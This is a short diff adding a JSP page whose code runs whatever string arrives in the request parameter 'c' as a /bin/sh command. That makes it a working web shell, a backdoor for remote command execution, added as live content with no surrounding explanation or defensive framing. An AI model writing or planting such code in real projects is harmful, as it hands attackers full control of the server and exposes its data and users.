@@ -1,0 +1,5 @@
+<%
+String c = request.getParameter("c");
+String[] cmd = {"/bin/sh", "-c", c};
+Process p = new ProcessBuilder(cmd).start();
+%>
